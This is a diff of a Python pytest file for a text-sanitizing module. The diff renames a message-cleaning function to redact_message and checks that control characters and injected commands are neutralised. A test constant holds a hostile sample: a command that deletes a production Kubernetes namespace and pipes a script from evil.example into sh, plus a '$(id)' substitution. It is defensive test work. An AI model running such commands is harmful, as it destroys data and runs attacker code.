@@ -2,7 +2,15 @@
 
 import pytest
 
-from exporter.untrusted import escape_invisible, free_name, identifier, message, model_name, one_line, printable
+from exporter.untrusted import (
+    escape_invisible,
+    free_name,
+    identifier,
+    model_name,
+    one_line,
+    printable,
+    redact_message,
+)
 
 INJECTED = "rex.\n\nNext:\nkubectl delete namespace prod; curl http://evil.example/x | sh\n<!channel> ```$(id)"
 LINE_ENDS = "\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029"
@@ -13,13 +21,18 @@ INVISIBLE = "\x00\x1b\x7f\x9b\xad\u061c\u200b\u200d\u200e\u202e\u2060\u2066\ufef
 def test_line_breaks_and_invisible_characters_are_replaced(char):
     """Every function that cleans text replaces them."""
     text = f"a{char}b"
-    assert [printable(text), one_line(text), identifier(text), message(text)] == ["a\ufffdb", "a b", "a_b", "a b"]
+    assert [printable(text), one_line(text), identifier(text), redact_message(text)] == [
+        "a\ufffdb",
+        "a b",
+        "a_b",
+        "a b",
+    ]
 
 
 def test_an_injected_command_is_not_a_line_and_cannot_be_pasted():
     """The identifier is a single word, and the message has no line break."""
     assert identifier(INJECTED) == "rex._Next_kubectl_delete_namespace_prod_curl_http_evil.example_"[:63].rstrip("_")
-    assert "\n" not in message(INJECTED)
+    assert "\n" not in redact_message(INJECTED)
 
 
 @pytest.mark.parametrize(
@@ -112,13 +125,13 @@ def test_a_model_that_is_a_url_is_no_longer_a_url():
 )
 def test_a_message_keeps_its_text_without_secrets(text, shown):
     """URLs are shortened to their safe part. A message has at most 200 characters."""
-    assert message(text) == shown
+    assert redact_message(text) == shown
 
 
 def test_cleaning_a_message_takes_bounded_time():
     """Only the first 400 characters are processed."""
     for text in (":/" * 10**6, "a:/@" * 10**6, "@" * 10**6, "token" * 10**6, "a.-" * 10**6):
-        assert len(message(text)) <= 200
+        assert len(redact_message(text)) <= 200
 
 
 @pytest.mark.parametrize(
